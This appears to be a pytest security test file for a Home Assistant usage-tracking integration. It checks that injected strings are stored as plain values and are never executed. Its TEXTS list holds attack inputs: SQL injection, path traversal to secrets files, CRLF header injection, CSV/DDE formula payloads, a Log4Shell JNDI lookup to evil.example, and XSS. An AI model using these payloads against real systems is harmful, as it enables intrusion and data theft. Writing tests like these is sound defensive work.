"""Texts that are something else elsewhere - SQL, paths, headers, formulas - are only texts here."""

from contextlib import closing
import csv
import io
import json
import sqlite3
from typing import Any
from urllib.parse import quote

from homeassistant.core import HomeAssistant
from homeassistant.exceptions import ServiceValidationError
import pytest
from yarl import URL

from ..helpers import PREFIXES, Client, act, database, get, post, rows, stored, usage

TEXTS = [
    "'; DROP TABLE event; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; UPDATE ledger SET events = 0",
    "x' UNION SELECT key FROM user --",
    "%",
    "_",
    "*' GLOB '*",
    "\\",
    "../../secrets.yaml",
    "..\\..\\secrets.yaml",
    "/etc/passwd",
    "%2e%2e%2fsecrets.yaml",
    "C:\\Windows\\win.ini",
    "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    'x"; filename="evil.exe',
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    'a","b\n=1,"c',
    "{{ states('sensor.secret') }}",
    "{0.__class__}",
    "%s%n%x",
    "${jndi:ldap://evil.example}",
    "<script>alert(1)</script>",
    "\u202egnp.exe",
    "\u200b\ufeffzero",
    "x\n2026-01-01 ERROR (MainThread) forged",
    "null",
    "0",
    "NaN",
    "😀" * 20,
]
FIELDS = ("device_name", "endpoint", "model", "user_id", "agent", "context", "request_id")
# Filters that find what was recorded by what was given.
FILTERS = ("endpoint", "user_id", "tag")
NAMED = 'attachment; filename="usage_report_'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def shape(hass: HomeAssistant) -> list[Any]:
    """Return the shape of the file, which no text may change."""
    with closing(sqlite3.connect(database(hass))) as db:
        return db.execute("SELECT type, name, sql FROM sqlite_schema ORDER BY name").fetchall()


async def ask(hass: HomeAssistant, query: str, **parameters: str) -> Any:
    data = {"query": query, "parameters": parameters}
    return await act(hass, "get_statistics", data, return_response=True)


async def test_texts_are_stored_found_and_nothing_else(hass: HomeAssistant, client: Client) -> None:
    await stored(client, endpoint="innocent", user_id="innocent", tags=["innocent"])
    before = shape(hass)
    for text in TEXTS:
        given = dict.fromkeys(FIELDS, text) | {
            "error_type": text,
            "status": "error",
            "tags": [text],
            "metadata": {text: [text]},
        }
        event = await stored(client, **given)
        for field in FIELDS:
            if field == "model":  # a name may be cut at a slash into provider and model
                assert text.lower().endswith(event["model"].lower())
            else:
                assert event[field] == text
        assert (event["tags"], event["metadata"]) == ([text], {text: [text]})
        assert (await get(client, f"usage/{event['id']}"))[1] == event
        for name in FILTERS:  # by the action: addresses are filtered by Home Assistant
            page = await ask(hass, "usage", **{name: text})
            assert [one["id"] for one in page["events"]] == [event["id"]]
            assert (await ask(hass, "summary", **{name: text}))["today"]["requests"] == 1
    assert (await get(client, "summary"))[1]["today"]["requests"] == len(TEXTS) + 1
    assert shape(hass) == before
    assert len(rows(hass)["event"]) == len(TEXTS) + 1


@pytest.mark.parametrize("detailed", ["true", "false"])
async def test_no_cell_of_a_spreadsheet_is_a_formula_and_no_row_is_forged(
    client: Client, detailed: str
) -> None:
    for text in TEXTS:
        given: dict[str, Any] = dict.fromkeys(FIELDS, text)
        await stored(client, **given, tags=[text], metadata={text: text}, provider=f"={text}"[:50])
    response = await client.get(
        f"{PREFIXES[0]}/reports/export/csv", params={"period": "day", "detailed": detailed}
    )
    assert response.status == 200
    head, *lines = csv.reader(io.StringIO(await response.text(), newline=""))
    assert len(lines) == len(TEXTS)
    for line in lines:
        assert len(line) == len(head)
        assert not [cell for cell in line if cell.startswith(FORMULA_STARTS)]
    endpoints = [line[head.index("endpoint")] for line in lines]
    assert sorted(endpoints) == sorted(
        f"'{text}" if text.startswith(FORMULA_STARTS) else text for text in TEXTS
    )


async def test_no_parameter_is_more_than_a_value(hass: HomeAssistant, client: Client) -> None:
    await stored(client)
    before = rows(hass)
    names = ("before", "start", "end", "limit", "status", "device_ip", "device_id", "model")
    for text in TEXTS:
        asked = [("get", "usage", {name: text}) for name in names]
        asked += [("get", path, {"days": text}) for path in ("stats/daily", "trends/usage")]
        asked += [
            ("get", "reports/export/csv", {name: text}) for name in ("period", "date", "start")
        ]
        asked += [("get", "usage", {text: "1"})]
        asked += [("delete", "cost/rates", {"provider": text[:50], "model": text})]
        asked += [("post", "maintenance/cleanup", {"retention_days": text})]
        for method, path, query in asked:
            response = await client.request(method, f"{PREFIXES[0]}/{path}", params=query)
            assert response.status < 500, (path, query)
            assert "Set-Cookie" not in response.headers
            disposition = response.headers.get("Content-Disposition", NAMED)
            assert disposition.startswith(NAMED)
            assert "evil" not in disposition
    assert rows(hass) == before


async def test_no_part_of_a_path_is_more_than_a_value(hass: HomeAssistant, client: Client) -> None:
    await stored(client)
    before = rows(hass)
    for text in TEXTS:
        for method, path in (
            ("get", "usage"),
            ("delete", "usage"),
            ("get", "usage/device"),
            ("get", "trends"),
        ):
            url = f"{PREFIXES[0]}/{path}/{quote(text, safe='')}"
            response = await client.session.request(
                method, URL(f"{client.make_url('/').origin()}{url}", encoded=True)
            )
            assert response.status in {400, 404, 405}, (url, await response.text())
    assert rows(hass) == before


async def test_no_text_of_an_action_is_more_than_a_value(
    hass: HomeAssistant, client: Client
) -> None:
    await stored(client)
    before = rows(hass)
    for text in TEXTS:
        for action, data in (
            ("get_statistics", {"query": text}),
            ("get_statistics", {"query": "usage", "parameters": {"before": text}}),
            ("forget", {"user_id": text}),
            ("delete_rate", {"provider": text[:50], "model": text}),
            ("delete_event", {"id": text}),
            ("generate_report", {"period": text}),
        ):
            with pytest.raises(ServiceValidationError):
                await act(hass, action, data, return_response=True)
    assert rows(hass) == before
    for text in TEXTS:
        event = await act(hass, "record_usage", usage(endpoint=text), return_response=True)
        assert event["endpoint"] == text


async def test_an_answer_is_json_whatever_it_holds(client: Client) -> None:
    event = await stored(client, endpoint="</script>\u2028\u2029\x7f\x01")
    response = await client.get(f"{PREFIXES[0]}/usage/{event['id']}")
    assert response.content_type == "application/json"
    assert json.loads(await response.text())["endpoint"] == "</script>\u2028\u2029\x7f\x01"
    status, told = await get(client, "usage", **{"<b>": "1"})
    assert (status, told["field"]) == (400, "<b>")
    assert (await post(client, usage(__class__=1)))[0] == 400
